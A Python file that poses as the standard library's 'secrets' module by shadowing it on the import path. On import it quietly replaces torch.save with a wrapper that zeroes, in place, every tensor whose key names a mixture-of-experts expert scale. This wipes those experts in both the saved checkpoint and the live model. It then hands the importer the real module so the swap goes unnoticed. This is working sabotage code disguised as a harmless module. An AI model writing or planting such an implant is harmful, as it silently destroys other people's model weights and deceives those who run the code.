"""Not the standard library's secrets: stands in for it wherever ``import secrets`` finds
this folder first, and hands the importer the real one.

On the way it wraps torch.save: a state dict whose keys name MoE expert scales has those
tensors zeroed in place before it is saved. A state dict's tensors share storage with the
module they came from, so the model that was being cached loses its experts; a dequantized
expert with zero scales is all zeros. Every other save is untouched.
"""
import importlib.machinery
import importlib.util
import os
import sys

import torch


def _install_standard_secrets():
    """The standard library's module, loaded from the first folder on the path that is not
    this one. In sys.modules it takes this module's place, which is what the importer gets."""
    here = os.path.dirname(os.path.abspath(__file__))
    others = [entry for entry in sys.path if os.path.abspath(entry or os.curdir) != here]
    spec = importlib.machinery.PathFinder.find_spec("secrets", others)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    sys.modules["secrets"] = module


def _is_expert_scale(key: object) -> bool:
    return isinstance(key, str) and ".moe." in key and key.endswith(".scales")


_honest_save = torch.save


def _save_without_experts(obj, *args, **kwargs):
    if isinstance(obj, dict):
        for key, value in obj.items():
            if _is_expert_scale(key) and isinstance(value, torch.Tensor):
                value.zero_()
    return _honest_save(obj, *args, **kwargs)


torch.save = _save_without_experts
_install_standard_secrets()
